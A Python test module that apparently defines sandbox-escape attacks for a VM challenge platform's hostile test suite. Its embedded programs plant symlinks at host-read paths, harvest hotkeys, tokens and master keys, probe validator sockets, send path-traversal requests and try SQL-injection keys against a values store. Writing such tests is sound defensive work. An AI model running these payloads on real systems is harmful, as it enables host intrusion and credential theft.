"""Cases 27 and 28: files of the host, its keys, its credentials, and other challenges' values."""

from __future__ import annotations

from tests.hostile.attack import SUCCEEDED, Attack, Control

_BOUND = Control(
    "files of the host @ @BAIT@",
    "a folder with copies of them that everyone may read is bound into the VM",
)

_LINKS = """
import os
names = "report serial.log vm.json user_config app-compose.json result.json core disk".split()
places = "/data /tmp /root /var/tmp /run /dev/shm /dstack /dstack/.host-shared /run/dstack".split()
made = 0
for place in places:
    for name in names:
        for target in ("@BAIT@/secret", "../../../../../../../..@BAIT@/secret"):
            try:
                os.symlink(target, f"{place}/{name}")
                made += 1
                break
            except OSError:
                continue
for path in ("/run/dstack.sock", "/run/dstack/dstack.sock", "/dstack/.host-shared/.user-config"):
    try:
        os.rename(path, path + ".old")
        os.symlink("@BAIT@/secret", path)
    except OSError as error:
        tell(path, error)
tell("links made:", made)
"""
_READ = """
import os
wanted = "@BAIT@ /host @STATE@ @STATE@/validator @STATE@/vmm /root /etc /run /proc/1/root@BAIT@".split()
read = 0
for top in wanted:
    for folder, folders, names in os.walk(top):
        if folder.count("/") - top.count("/") > 2:
            folders[:] = []
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    text = file.read(4096).decode("latin-1")
            except OSError:
                continue
            read += 1
            NOTE
tell("files read:", read)
"""
_HOTKEY = _READ.replace(
    "NOTE",
    """if name in ("hotkey", "validator.hotkey", "hotkey.json") or top in ("@BAIT@", "/host"):
                tell(name, text[:400])""",
)
_CREDENTIALS = (
    _READ.replace(
        "NOTE",
        """if name in ("token", "admin.token", "admin", "master.key", "processes.json") or top == "/host":
                tell(name, text[:400])""",
    )
    + """
import http.client, socket
for path in ("@STATE@/validator/validator.sock", "@STATE@/vmm.sock", "/var/run/validator.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as to:
            to.connect(path)
            tell("connected to", path)
    except OSError as error:
        tell(path, error)
for page in "metrics health api/v1/status api/v1/env ../keyring/master.key %2e%2e/admin.token".split():
    connection = http.client.HTTPConnection("10.0.2.2", @GUEST_PORT@, timeout=5)
    connection.request("GET", "/" + page)
    tell(page, connection.getresponse().read()[:1500].decode("latin-1"))
"""
)
_VALUES = """
import json
from platform_protocol.session.messages import ValuesGet, ValuesList
values = ctx.values.sync
keys = ["kept", "../@VAULT@/kept", "@VAULT@/kept", "@VAULT@:kept", "%2e%2e/kept", "*", "kept\\u0000"]
keys.append("' OR 1=1 --")
for key in keys:
    try:
        tell(key, json.dumps(values.get(key)))
    except Exception as error:
        tell(key, error)
for prefix in ("", "..", "@VAULT@", "%", "_"):
    try:
        for key in values.list(prefix):
            tell("key", key, json.dumps(values.get(key)))
    except Exception as error:
        tell(prefix, error)
"""


def _reads(name: str, clause: str, program: str) -> Attack:
    return Attack(
        name, 28, clause, "challenge", program, _BOUND, lambda facts: bool(facts.found), outcomes=SUCCEEDED
    )


REACH = [
    Attack(
        "links where the host might open a path",
        27,
        "links",
        "challenge",
        _LINKS,
        Control("no path of a guest's", "the VMM opens a file of the guest's by its path when the VM ends"),
        lambda facts: facts.opened > 0,
        outcomes=SUCCEEDED,
    ),
    _reads("the hotkey, from a challenge", "hotkey", _HOTKEY),
    _reads("API credentials, from a challenge", "api-credentials", _CREDENTIALS),
    Attack(
        "other challenges' values",
        28,
        "other-values",
        "challenge",
        _VALUES,
        Control("whose values they are @ @VAULT@", "the validator answers for the challenge with the secret"),
        lambda facts: any("dynamic value" in name for name in facts.found),
        outcomes=SUCCEEDED,
        payload={"victim": "0"},
    ),
]
